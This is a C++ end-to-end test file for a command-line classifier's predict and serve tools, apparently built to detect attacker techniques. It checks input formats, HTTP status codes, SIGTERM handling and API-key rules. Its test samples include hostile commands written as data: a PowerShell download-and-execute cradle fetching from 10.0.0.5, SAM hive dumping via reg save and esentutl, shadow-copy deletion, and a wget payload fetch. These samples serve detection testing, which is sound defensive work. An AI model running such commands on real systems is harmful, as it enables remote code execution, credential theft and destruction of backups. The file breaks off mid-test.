// tools/predict.cpp and tools/serve.cpp, run as a user runs them (build/bin/predict, build/bin/serve) on a
// tiny random-init RoBERTa dir with the real roberta-base tokenizer and lower-casing recorded: every input
// form, every output form, bad lines with their numbers, and the HTTP API (status codes, batching, clean
// stop on SIGTERM), whose answers must equal predict's.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <thread>

// Debian's libcpp-httplib is built with OpenSSL/zlib/brotli; the CPPHTTPLIB_* defines that match it come
// from its pkg-config target (see CMakeLists.txt): the header must see the same ones (class layouts differ).
#include <httplib.h>

#include <nlohmann/json.hpp>

#include "data/csv.h"
#include "e2e/e2e_util.h"
#include "e2e/tiny_classifier.h"
#include "test_paths.h"

namespace {

using attune::testing::quote;
using attune::testing::slurp;
using attune::testing::write;

namespace fs = std::filesystem;
using nlohmann::json;

const std::vector<std::string>& kLabels = attune::testing::tiny_classifier_labels();

struct Result {
  int code = -1;
  std::string out;
  std::string err;
};

// The tiny model dir, built once per test binary: random init, no training, lowercase + max_length 64.
const fs::path& model_dir() {
  static const fs::path dir = attune::testing::write_tiny_classifier(
      "predict-serve", /*seed=*/11,
      /*initializer_range=*/0.5,  // large enough that the two classes get clearly different scores
      /*lowercase=*/true);
  return dir;
}

// The same weights with a calibration temperature of 3 in attune.json: every probability differs from
// model_dir()'s, so a tool that ignores the temperature is caught.
constexpr double kTemperature = 3.0;
const fs::path& calibrated_model_dir() {
  static const fs::path dir = attune::testing::write_tiny_classifier("predict-serve-calibrated", /*seed=*/11,
                                                                     /*initializer_range=*/0.5,
                                                                     /*lowercase=*/true, kTemperature);
  return dir;
}

// Runs build/bin/<tool> with `args` (shell-quoted as needed) and `input` on standard input.
Result run_tool(const std::string& tool, const std::string& args, const std::string& input = "") {
  const fs::path exe = attune::testing::bin_dir() / tool;
  if (!fs::exists(exe)) {
    ADD_FAILURE() << exe << " is missing: build the " << tool << " target";
    return {};
  }
  const fs::path dir = attune::testing::temp_dir("predict-run");
  write(dir / "in", input);
  const std::string command = quote(exe.string()) + " " + args + " <" + quote((dir / "in").string()) + " >" +
                              quote((dir / "out").string()) + " 2>" + quote((dir / "err").string());
  const int status = std::system(command.c_str());
  Result r;
  r.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  r.out = slurp(dir / "out");
  r.err = slurp(dir / "err");
  return r;
}

Result predict(const std::string& args, const std::string& input = "") {
  return run_tool("predict", "--model " + quote(model_dir().string()) + " --threads 1 " + args, input);
}

std::vector<json> json_lines(const std::string& out) {
  std::vector<json> lines;
  std::istringstream in(out);
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) lines.push_back(json::parse(line));
  return lines;
}

// A prediction object is well formed: a known label, its score, probabilities over all labels summing to 1.
void expect_prediction(const json& p) {
  ASSERT_TRUE(p.contains("label") && p.contains("score") && p.contains("probabilities")) << p.dump();
  const auto label = p["label"].get<std::string>();
  EXPECT_TRUE(label == kLabels[0] || label == kLabels[1]) << label;
  double sum = 0, best = -1;
  std::string best_label;
  ASSERT_EQ(p["probabilities"].size(), kLabels.size());
  for (const auto& l : kLabels) {
    const double prob = p["probabilities"].at(l).get<double>();
    sum += prob;
    if (prob > best) best = prob, best_label = l;
  }
  EXPECT_NEAR(sum, 1.0, 1e-5);
  EXPECT_EQ(best_label, label);
  EXPECT_NEAR(p["score"].get<double>(), best, 1e-7);
}

const std::vector<std::string> kTexts = {
    "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
    "whoami",
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
    "ipconfig /all",
    "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\temp\\sam",
    "net user administrator",
    "notepad.exe report.txt"};

class PredictServe : public ::testing::Test {
 protected:
  void SetUp() override {
    ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
    model_dir();
  }
};

TEST_F(PredictServe, TextsAsJsonLinesKeepOrderAndApplyLowercasing) {
  std::string args = "--format json --logits --fp32";
  for (const auto& t : kTexts) args += " --text " + quote(t);
  args += " --text " + quote("WHOAMI");
  const Result r = predict(args);
  ASSERT_EQ(r.code, 0) << r.err;
  const auto lines = json_lines(r.out);
  ASSERT_EQ(lines.size(), kTexts.size() + 1);
  for (std::size_t i = 0; i < kTexts.size(); ++i) {
    expect_prediction(lines[i]);
    EXPECT_EQ(lines[i]["line"], i + 1);
    EXPECT_EQ(lines[i]["text"], kTexts[i]);
    EXPECT_EQ(lines[i]["logits"].size(), 2u);
  }
  // The model was trained lower-cased: "WHOAMI" must score exactly as "whoami".
  for (const auto& l : kLabels)
    EXPECT_NEAR(lines.back()["probabilities"][l].get<double>(), lines[1]["probabilities"][l].get<double>(),
                1e-6);
  // A random model still separates texts: not every text gets the same scores.
  EXPECT_NE(lines[0]["probabilities"], lines[1]["probabilities"]);
}

TEST_F(PredictServe, SmallBatchesGiveTheSameAnswersInOrder) {
  std::string input;
  for (const auto& t : kTexts) input += t + "\n";
  const Result big = predict("--format json --fp32 --batch-size 64", input);
  const Result small = predict("--format json --fp32 --batch-size 2 --input -", input);
  ASSERT_EQ(big.code, 0) << big.err;
  ASSERT_EQ(small.code, 0) << small.err;
  const auto a = json_lines(big.out), b = json_lines(small.out);
  ASSERT_EQ(a.size(), kTexts.size());
  ASSERT_EQ(b.size(), kTexts.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(b[i]["text"], kTexts[i]);
    EXPECT_EQ(a[i]["label"], b[i]["label"]);
    for (const auto& l : kLabels)
      EXPECT_NEAR(a[i]["probabilities"][l].get<double>(), b[i]["probabilities"][l].get<double>(), 1e-5);
  }
}

TEST_F(PredictServe, StdinLinesAsTableReportBadLines) {
  const Result r = predict("", "whoami\n\nipconfig /all\n");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find("label"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("whoami"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("ipconfig /all"), std::string::npos) << r.out;
  EXPECT_LT(r.out.find("whoami"), r.out.find("ipconfig"));
  EXPECT_NE(r.err.find("<stdin>:2:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("skipped 1 bad line"), std::string::npos) << r.err;
}

TEST_F(PredictServe, CsvInColumnCsvOut) {
  const fs::path dir = attune::testing::temp_dir("predict-csv");
  const auto file =
      write(dir / "events.csv", "host,cmd\nh1,whoami\nh2,\"net user \"\"x\"\", y\"\nh3,\nh4,ipconfig\n");
  const Result r = predict("--input " + quote(file.string()) + " --column cmd --format csv");
  ASSERT_EQ(r.code, 0) << r.err;
  const auto table = attune::data::parse_csv(r.out, "predict output");
  ASSERT_EQ(table.header.size(), 6u);
  EXPECT_EQ(table.header[4], "prob_Benign");
  ASSERT_EQ(table.rows.size(), 3u);
  EXPECT_EQ(table.rows[0][0], "2");
  EXPECT_EQ(table.rows[1][1], "net user \"x\", y");
  EXPECT_EQ(table.rows[2][0], "5");
  for (const auto& row : table.rows) {
    EXPECT_NEAR(std::stod(row[4]) + std::stod(row[5]), 1.0, 1e-5);
    EXPECT_TRUE(row[2] == kLabels[0] || row[2] == kLabels[1]) << row[2];
  }
  EXPECT_NE(r.err.find("events.csv:4:"), std::string::npos) << r.err;
}

TEST_F(PredictServe, JsonLinesFieldPathAndErrorPolicies) {
  const fs::path dir = attune::testing::temp_dir("predict-jsonl");
  const auto file = write(dir / "sysmon.jsonl",
                          "{\"process\": {\"command_line\": \"vssadmin delete shadows /all\"}}\n"
                          "{\"process\": {\"command_line\": \"whoami\"}}\n"
                          "{\"process\": {\"pid\": 4}}\n"
                          "{oops\n"
                          "{\"process\": {\"command_line\": \"ipconfig\"}}\n");
  const std::string base = "--input " + quote(file.string()) + " --field process.command_line --format json";
  const Result r = predict(base);
  ASSERT_EQ(r.code, 0) << r.err;
  const auto lines = json_lines(r.out);
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[0]["line"], 1);
  EXPECT_EQ(lines[2]["line"], 5);
  EXPECT_EQ(lines[2]["text"], "ipconfig");
  for (const auto& l : lines) expect_prediction(l);
  EXPECT_NE(r.err.find("sysmon.jsonl:3: missing field process.command_line"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("sysmon.jsonl:4: invalid JSON"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("skipped 2 bad lines"), std::string::npos) << r.err;

  const Result strict = predict(base + " --on-error fail");
  EXPECT_EQ(strict.code, 2);
  EXPECT_TRUE(strict.out.empty()) << strict.out;
  EXPECT_NE(strict.err.find("sysmon.jsonl:3:"), std::string::npos) << strict.err;
}

// A Linux audit log: three events (EXECVE with a hex argument, PROCTITLE alone, and an EXECVE with its
// PROCTITLE) and a line that is not a record.
const std::string kAuditLog =
    "type=SYSCALL msg=audit(1764765600.101:7001): arch=c000003e syscall=59 success=yes exit=0\n"
    "type=EXECVE msg=audit(1764765600.101:7001): argc=3 a0=\"reg\" a1=\"save\" "
    "a2=484B4C4D5C53414D20433A5C54656D705C73616D2E73617665\n"
    "type=PROCTITLE msg=audit(1764765600.101:7001): proctitle=726567007361766500\n"
    "type=PROCTITLE msg=audit(1764765601.5:7002): proctitle=6970636F6E66696700\n"
    "not a record\n"
    "type=EXECVE msg=audit(1764765602.0:7003): argc=1 a0=\"whoami\"\n";
const std::vector<std::string> kAuditCommands = {"reg save HKLM\\SAM C:\\Temp\\sam.save", "ipconfig",
                                                 "whoami"};

TEST_F(PredictServe, AuditLogInputScoresEachEventsCommand) {
  const fs::path dir = attune::testing::temp_dir("predict-auditd");
  const auto file = write(dir / "audit.log", kAuditLog);
  const Result r = predict("--input " + quote(file.string()) + " --format json --fp32");  // from the name
  ASSERT_EQ(r.code, 0) << r.err;
  const auto lines = json_lines(r.out);
  ASSERT_EQ(lines.size(), kAuditCommands.size()) << r.out;
  std::string args = "--format json --fp32";
  for (const auto& t : kAuditCommands) args += " --text " + quote(t);
  const auto reference = json_lines(predict(args).out);
  ASSERT_EQ(reference.size(), kAuditCommands.size());
  const std::vector<int> record_lines = {2, 4, 6};
  for (std::size_t i = 0; i < lines.size(); ++i) {
    EXPECT_EQ(lines[i]["text"], kAuditCommands[i]);
    EXPECT_EQ(lines[i]["line"], record_lines[i]);
    EXPECT_EQ(lines[i]["probabilities"], reference[i]["probabilities"]);
  }
  EXPECT_NE(r.err.find("audit.log:5: not an audit record"), std::string::npos) << r.err;
  // Standard input needs the form named.
  const Result piped = predict("--input-format auditd --format json --fp32", kAuditLog);
  ASSERT_EQ(piped.code, 0) << piped.err;
  EXPECT_EQ(json_lines(piped.out).size(), kAuditCommands.size());
  EXPECT_EQ(predict("--input-format syslog --text x").code, 2);
}

TEST_F(PredictServe, BadUsageExitsTwo) {
  EXPECT_EQ(predict("--format yaml --text x").code, 2);
  EXPECT_EQ(predict("--text x --input y.txt").code, 2);
  // One request's latency is bench's (bench exported-request, tests/e2e/test_bench.cpp), not predict's.
  EXPECT_EQ(predict("--latency 3 --text x").code, 2);
  const Result missing = run_tool("predict", "--model /nonexistent/model --text x");
  EXPECT_EQ(missing.code, 2);
  EXPECT_NE(missing.err.find("/nonexistent/model"), std::string::npos) << missing.err;
}

// ---- serve ---------------------------------------------------------------------------------------

// A running build/bin/serve on 127.0.0.1 and a free port, stopped with SIGTERM at the end.
struct ServeProcess {
  pid_t pid = -1;
  int port = 0;

  bool start(const std::vector<std::string>& extra, const fs::path& model = model_dir()) {
    const std::string exe = (attune::testing::bin_dir() / "serve").string();
    std::vector<std::string> args = {exe,      "--model", model.string(), "--host", "127.0.0.1",
                                     "--port", "0",       "--threads",    "1",      "--fp32"};
    args.insert(args.end(), extra.begin(), extra.end());
    int out[2];
    if (pipe(out) != 0) return false;
    pid = fork();
    if (pid == 0) {
      dup2(out[1], STDOUT_FILENO);
      close(out[0]);
      close(out[1]);
      std::vector<char*> argv;
      for (auto& a : args) argv.push_back(a.data());
      argv.push_back(nullptr);
      execv(exe.c_str(), argv.data());
      _exit(127);
    }
    close(out[1]);
    // Read the "listening on http://127.0.0.1:PORT" line, waiting at most 60 s.
    std::string line;
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    while (line.find('\n') == std::string::npos && std::chrono::steady_clock::now() < deadline) {
      pollfd p{out[0], POLLIN, 0};
      if (poll(&p, 1, 200) <= 0) continue;
      char buf[256];
      const auto n = read(out[0], buf, sizeof(buf));
      if (n <= 0) break;
      line.append(buf, static_cast<std::size_t>(n));
    }
    close(out[0]);
    const std::string prefix = "listening on http://127.0.0.1:";
    const auto at = line.find(prefix);
    if (at == std::string::npos) return false;
    port = std::atoi(line.c_str() + at + prefix.size());
    return port > 0;
  }

  // SIGTERM, then the exit status (-1: did not exit within `seconds`, then killed).
  int stop(int seconds = 10) {
    if (pid <= 0) return -1;
    kill(pid, SIGTERM);
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
    int status = 0;
    while (std::chrono::steady_clock::now() < deadline) {
      if (waitpid(pid, &status, WNOHANG) == pid) {
        pid = -1;
        return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    pid = -1;
    return -1;
  }

  ~ServeProcess() {
    if (pid > 0) stop(/*seconds=*/2);
  }
};

httplib::Client client(int port) {
  httplib::Client c("127.0.0.1", port);
  c.set_connection_timeout(5);
  c.set_read_timeout(20);
  c.set_write_timeout(5);
  return c;
}

void expect_error(const httplib::Result& res, int status) {
  ASSERT_TRUE(res) << "no response (" << httplib::to_string(res.error()) << ")";
  EXPECT_EQ(res->status, status) << res->body;
  const auto body = json::parse(res->body, nullptr, /*allow_exceptions=*/false);
  ASSERT_TRUE(body.is_object()) << res->body;
  EXPECT_TRUE(body.contains("error") && body["error"].is_string()) << res->body;
}

TEST_F(PredictServe, ServeAnswersLikePredictAndStopsCleanly) {
  ServeProcess serve;
  ASSERT_TRUE(serve.start({"--max-body-bytes", "4096", "--max-text-bytes", "1024", "--max-texts", "8",
                           "--max-wait-ms", "5", "--max-concurrent", "4"}))
      << "serve did not print its port";
  auto c = client(serve.port);

  // Health and labels.
  auto health = c.Get("/health");
  ASSERT_TRUE(health);
  EXPECT_EQ(health->status, 200);
  const auto h = json::parse(health->body);
  EXPECT_EQ(h["status"], "ok");
  EXPECT_EQ(h["labels"], 2);
  EXPECT_EQ(h["model"], model_dir().string());
  auto labels = c.Get("/labels");
  ASSERT_TRUE(labels);
  EXPECT_EQ(json::parse(labels->body)["labels"], json(kLabels));

  // One text, then a list: the same answers predict gives.
  std::string args = "--format json --fp32";
  for (const auto& t : kTexts) args += " --text " + quote(t);
  const Result reference = predict(args);
  ASSERT_EQ(reference.code, 0) << reference.err;
  const auto expected = json_lines(reference.out);
  ASSERT_EQ(expected.size(), kTexts.size());

  auto single = c.Post("/api", json{{"text", kTexts[0]}}.dump(), "application/json");
  ASSERT_TRUE(single);
  ASSERT_EQ(single->status, 200) << single->body;
  const auto one = json::parse(single->body);
  expect_prediction(one);
  EXPECT_EQ(one["label"], expected[0]["label"]);

  auto batch =
      c.Post("/api", json{{"texts", std::vector<std::string>(kTexts.begin(), kTexts.begin() + 6)}}.dump(),
             "application/json");
  ASSERT_TRUE(batch);
  ASSERT_EQ(batch->status, 200) << batch->body;
  const auto many = json::parse(batch->body);
  ASSERT_TRUE(many.is_array());
  ASSERT_EQ(many.size(), 6u);
  for (std::size_t i = 0; i < many.size(); ++i) {
    expect_prediction(many[i]);
    EXPECT_EQ(many[i]["label"], expected[i]["label"]) << i;
    for (const auto& l : kLabels)
      EXPECT_NEAR(many[i]["probabilities"][l].get<double>(), expected[i]["probabilities"][l].get<double>(),
                  1e-5);
  }

  // Requests arriving together (batched by the server) each get their own answer.
  std::vector<std::thread> threads;
  std::vector<json> answers(kTexts.size());
  for (std::size_t i = 0; i < kTexts.size(); ++i)
    threads.emplace_back([&, i] {
      auto ci = client(serve.port);
      auto res = ci.Post("/api", json{{"text", kTexts[i]}}.dump(), "application/json");
      if (res && res->status == 200) answers[i] = json::parse(res->body);
    });
  for (auto& t : threads) t.join();
  for (std::size_t i = 0; i < kTexts.size(); ++i) {
    ASSERT_TRUE(answers[i].is_object()) << "request " << i << " failed";
    EXPECT_EQ(answers[i]["label"], expected[i]["label"]) << i;
    EXPECT_NEAR(answers[i]["score"].get<double>(), expected[i]["score"].get<double>(), 1e-5) << i;
  }

  // Bad requests: JSON errors with the right status, and the server keeps serving.
  expect_error(c.Post("/api", "{\"text\": ", "application/json"), 400);
  expect_error(c.Post("/api", "{\"txt\": \"whoami\"}", "application/json"), 400);
  expect_error(c.Post("/api", "{\"text\": 5}", "application/json"), 400);
  expect_error(c.Post("/api", "{\"texts\": [\"a\", 1]}", "application/json"), 400);
  // Invalid UTF-8 is a bad request (once a 500: the error message quoting the bytes could not be written).
  expect_error(c.Post("/api", "{\"text\": \"ab\xff\xfe\"}", "application/json"), 400);
  expect_error(c.Post("/api", "{\"text\": \xff}", "application/json"), 400);
  // Nesting is bounded before the parser recurses into it.
  const auto deep = c.Post("/api", std::string(100, '[') + std::string(100, ']'), "application/json");
  expect_error(deep, 400);
  if (deep) {
    EXPECT_NE(deep->body.find("nests deeper than 64 levels"), std::string::npos) << deep->body;
  }
  expect_error(c.Post("/api", "{\"text\": \"\"}", "application/json"), 400);
  expect_error(c.Post("/api", "[\"whoami\"]", "application/json"), 400);
  expect_error(c.Post("/api", json{{"text", std::string(5000, 'a')}}.dump(), "application/json"), 413);
  expect_error(c.Post("/api", json{{"text", std::string(2000, 'a')}}.dump(), "application/json"), 413);
  expect_error(
      c.Post("/api", json{{"texts", std::vector<std::string>(9, "whoami")}}.dump(), "application/json"), 413);
  expect_error(c.Get("/nope"), 404);
  expect_error(c.Post("/nope", "{}", "application/json"), 404);
  expect_error(c.Get("/api"), 405);
  expect_error(c.Post("/health", "{}", "application/json"), 405);
  expect_error(c.Delete("/labels"), 405);
  auto empty_list = c.Post("/api", "{\"texts\": []}", "application/json");
  ASSERT_TRUE(empty_list);
  EXPECT_EQ(empty_list->status, 200);
  EXPECT_EQ(json::parse(empty_list->body), json::array());
  auto after = c.Post("/api", json{{"text", "whoami"}}.dump(), "application/json");
  ASSERT_TRUE(after);
  EXPECT_EQ(after->status, 200);

  EXPECT_EQ(serve.stop(/*seconds=*/10), 0) << "serve must exit 0 on SIGTERM within 10 s";
}

// A stop request is honoured at every moment of serve's life: before its handlers exist (the default
// action ends it), while it binds and loads the model, once it is ready, and while keep-alive clients keep
// it busy and idle connections hold workers. A probe of an earlier server once saw a SIGTERM ignored for
// minutes (a stop that came before the listening loop started was forgotten).
TEST_F(PredictServe, ServeStopsOnSigtermAtAnyMoment) {
  using Clock = std::chrono::steady_clock;
  const auto stopped = [](pid_t pid, int seconds) {  // exit status, 128 + signal, or -1 when still running
    int status = 0;
    const auto deadline = Clock::now() + std::chrono::seconds(seconds);
    while (Clock::now() < deadline) {
      if (waitpid(pid, &status, WNOHANG) == pid)
        return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    return -1;
  };
  const fs::path log = fs::path(::testing::TempDir()) / "serve_sigterm.log";
  for (const int delay_ms : {0, 1, 3, 10, 30, 60, 100, 200, 400, 800}) {
    const pid_t pid = attune::testing::spawn(
        "serve", {"--model", model_dir().string(), "--host", "127.0.0.1", "--port", "0", "--threads", "1"},
        log);
    ASSERT_GT(pid, 0);
    std::this_thread::sleep_for(std::chrono::milliseconds(delay_ms));
    kill(pid, SIGTERM);
    const int status = stopped(pid, 10);
    EXPECT_TRUE(status == 0 || status == 128 + SIGTERM)
        << "SIGTERM " << delay_ms << " ms after start: status " << status
        << " (-1: still running after 10 s)\n"
        << slurp(log);
  }

  // Ready, with four keep-alive clients sending requests back to back and two connections that never send.
  ServeProcess serve;
  ASSERT_TRUE(serve.start({}));
  std::atomic<bool> done{false};
  std::atomic<int> answered{0};
  std::vector<std::thread> clients;
  for (int i = 0; i < 4; ++i)
    clients.emplace_back([&] {
      auto c = client(serve.port);
      c.set_keep_alive(true);
      while (!done)
        if (auto res = c.Post("/api", json{{"text", "whoami /all"}}.dump(), "application/json");
            res && res->status == 200)
          ++answered;
    });
  std::vector<int> idle;
  for (int i = 0; i < 2; ++i) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(serve.port));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd >= 0 && connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0) idle.push_back(fd);
  }
  while (answered < 50) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  const auto sent = Clock::now();
  const int status = serve.stop(/*seconds=*/15);
  const double seconds = std::chrono::duration<double>(Clock::now() - sent).count();
  done = true;
  for (auto& t : clients) t.join();
  for (const int fd : idle) close(fd);
  EXPECT_EQ(status, 0) << "serve under load must exit 0 on SIGTERM within 15 s";
  // Connections idle between requests are closed at once rather than after the 5 s keep-alive timeout.
  EXPECT_LT(seconds, 3.0) << "the stop waited " << seconds << " s";
}

TEST_F(PredictServe, ServeScoresAuditRecordsLikePredict) {
  ServeProcess serve;
  ASSERT_TRUE(serve.start({})) << "serve did not print its port";
  auto c = client(serve.port);
  std::string args = "--format json --fp32";
  for (const auto& t : kAuditCommands) args += " --text " + quote(t);
  const auto expected = json_lines(predict(args).out);
  ASSERT_EQ(expected.size(), kAuditCommands.size());

  auto res = c.Post("/api", json{{"auditd", kAuditLog}}.dump(), "application/json");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  const auto body = json::parse(res->body);
  const auto& predictions = body["predictions"];
  ASSERT_EQ(predictions.size(), kAuditCommands.size()) << res->body;
  const std::vector<std::string> events = {"1764765600.101:7001", "1764765601.5:7002", "1764765602.0:7003"};
  for (std::size_t i = 0; i < predictions.size(); ++i) {
    expect_prediction(predictions[i]);
    EXPECT_EQ(predictions[i]["command"], kAuditCommands[i]);
    EXPECT_EQ(predictions[i]["event"], events[i]);
    EXPECT_EQ(predictions[i]["label"], expected[i]["label"]);
    for (const auto& l : kLabels)
      EXPECT_NEAR(predictions[i]["probabilities"][l].get<double>(),
                  expected[i]["probabilities"][l].get<double>(), 1e-5);
  }
  ASSERT_EQ(body["skipped"].size(), 1u) << res->body;
  EXPECT_EQ(body["skipped"][0]["line"], 5);
  expect_error(c.Post("/api", json{{"auditd", 5}}.dump(), "application/json"), 400);
  expect_error(c.Post("/api", json{{"auditd", "x"}, {"text", "y"}}.dump(), "application/json"), 400);
  EXPECT_EQ(serve.stop(/*seconds=*/10), 0);
}

TEST_F(PredictServe, ServeAppliesTheCalibrationTemperatureLikePredict) {
  std::string args = "--format json --fp32";
  for (const auto& t : kTexts) args += " --text " + quote(t);
  const Result raw = predict(args);
  const Result calibrated =
      run_tool("predict", "--model " + quote(calibrated_model_dir().string()) + " --threads 1 " + args);
  ASSERT_EQ(raw.code, 0) << raw.err;
  ASSERT_EQ(calibrated.code, 0) << calibrated.err;
  const auto at_one = json_lines(raw.out);
  const auto expected = json_lines(calibrated.out);
  ASSERT_EQ(expected.size(), kTexts.size());
  ASSERT_EQ(at_one.size(), kTexts.size());

  ServeProcess serve;
  ASSERT_TRUE(serve.start({}, calibrated_model_dir())) << "serve did not print its port";
  auto c = client(serve.port);
  auto res = c.Post("/api", json{{"texts", kTexts}}.dump(), "application/json");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  const auto answers = json::parse(res->body);
  ASSERT_EQ(answers.size(), kTexts.size());
  for (std::size_t i = 0; i < kTexts.size(); ++i) {
    SCOPED_TRACE(kTexts[i]);
    expect_prediction(answers[i]);
    EXPECT_EQ(answers[i]["label"], expected[i]["label"]);
    for (const auto& l : kLabels) {
      const double p = answers[i]["probabilities"][l].get<double>();
      EXPECT_NEAR(p, expected[i]["probabilities"][l].get<double>(), 1e-5) << l;
      // softmax(z / T) of two labels is flatter than softmax(z): the calibrated p is nearer to 1/2.
      const double uncalibrated = at_one[i]["probabilities"][l].get<double>();
      EXPECT_LT(std::abs(p - 0.5), std::abs(uncalibrated - 0.5) - 1e-4) << l;
    }
  }
  EXPECT_EQ(serve.stop(/*seconds=*/10), 0);
}

// Sends `request` as is over a fresh connection; returns what came back within `seconds`.
std::string raw_exchange(int port, const std::string& request, int seconds = 10) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return "";
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  std::string out;
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0 &&
      send(fd, request.data(), request.size(), 0) == static_cast<ssize_t>(request.size())) {
    pollfd p{fd, POLLIN, 0};
    char buf[4096];
    while (poll(&p, 1, seconds * 1000) > 0) {
      const auto n = recv(fd, buf, sizeof(buf), 0);
      if (n <= 0) break;
      out.append(buf, static_cast<std::size_t>(n));
      if (out.find("\r\n\r\n") != std::string::npos && out.find('}') != std::string::npos) break;
    }
  }
  close(fd);
  return out;
}

// Bodies are read only as a plain Content-Length of bytes, so --max-body-bytes bounds what serve holds.
TEST_F(PredictServe, ServeRefusesChunkedCompressedAndMalformedLengthBodiesAtOnce) {
  ServeProcess serve;
  ASSERT_TRUE(serve.start({"--max-body-bytes", "4096"})) << "serve did not print its port";
  const std::string head = "POST /api HTTP/1.1\r\nHost: 127.0.0.1\r\n";
  for (const auto& [extra, status] :
       {std::pair<std::string, std::string>{"Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n", "411"},
        {"Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd", "415"},
        {"Content-Length: -5\r\n\r\n", "400"},
        {"Content-Length: 12abc\r\n\r\n", "400"}}) {
    const auto start = std::chrono::steady_clock::now();
    const std::string answer = raw_exchange(serve.port, head + extra);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    EXPECT_EQ(answer.rfind("HTTP/1.1 " + status, 0), 0u) << extra << " -> " << answer;
    EXPECT_NE(answer.find("{\"error\":"), std::string::npos) << answer;
    EXPECT_LT(seconds, 2.0) << extra;  // answered at once, not after the read timeout
  }
  EXPECT_EQ(serve.stop(), 0);
}

// The classic model kinds' exports (here TF-IDF + logistic regression) are served like any other.
TEST_F(PredictServe, ServeAnswersWithATfidfLogregExportLikePredict) {
  const fs::path model = attune::testing::write_tiny_tfidf_classifier("serve-tfidf");
  ServeProcess serve;
  ASSERT_TRUE(serve.start({}, model)) << "serve did not print its port";
  auto c = client(serve.port);
  auto res = c.Post("/api", json{{"texts", {"WGET http://10.9.9.9/payload", "ls -la /srv"}}}.dump(),
                    "application/json");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  const auto answers = json::parse(res->body);
  ASSERT_EQ(answers.size(), 2u);
  EXPECT_EQ(answers[0]["label"], "T1003.002") << res->body;  // lower-cased as recorded
  EXPECT_EQ(answers[1]["label"], "Benign") << res->body;
  const Result reference = run_tool("predict", "--model " + quote(model.string()) +
                                                   " --threads 1 --format json --fp32 --text "
                                                   "'WGET http://10.9.9.9/payload' --text 'ls -la /srv'");
  ASSERT_EQ(reference.code, 0) << reference.err;
  const auto expected = json_lines(reference.out);
  ASSERT_EQ(expected.size(), 2u);
  for (size_t i = 0; i < 2; ++i) {
    EXPECT_EQ(answers[i]["label"], expected[i]["label"]);
    EXPECT_NEAR(answers[i]["score"].get<double>(), expected[i]["score"].get<double>(), 1e-6);
  }
  EXPECT_EQ(serve.stop(), 0);
}

TEST_F(PredictServe, ServeBadModelDirExitsTwo) {
  const Result r = run_tool("serve", "--model /nonexistent/model --port 0");
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("/nonexistent/model"), std::string::npos) << r.err;
}

TEST_F(PredictServe, ServeRefusesAnOpenNetworkAddressWithoutAKey) {
  // Checked before the model loads: a user learns at once, whatever the model dir.
  const Result open = run_tool("serve", "--model " + model_dir().string() + " --host 0.0.0.0 --port 0");
  EXPECT_EQ(open.code, 2);
  EXPECT_NE(open.err.find("not a loopback address"), std::string::npos) << open.err;
  EXPECT_NE(open.err.find("--api-key-file"), std::string::npos) << open.err;
  const Result half_tls = run_tool("serve", "--model " + model_dir().string() + " --port 0 --tls-cert " +
                                                (model_dir() / "config.json").string());
  EXPECT_EQ(half_tls.code, 2);
  EXPECT_NE(half_tls.err.find("--tls-key"), std::string::npos) << half_tls.err;
  const fs::path short_key = fs::temp_directory_path() / ("attune_short_key_" + std::to_string(getpid()));
  std::ofstream(short_key) << "abc\n";
  const Result weak =
      run_tool("serve", "--model " + model_dir().string() + " --port 0 --api-key-file " + short_key.string());
  EXPECT_EQ(weak.code, 2);
  EXPECT_NE(weak.err.find("at least 16"), std::string::npos) << weak.err;
  fs::remove(short_key);
}

TEST_F(PredictServe, ServeWithAKeyAnswersOnlyKeyHolders) {
  const fs::path key_file = fs::temp_directory_path() / ("attune_key_" + std::to_string(getpid()));
  const std::string key = "e2e-key-0123456789abcdef";
  std::ofstream(key_file) << key << "\n";
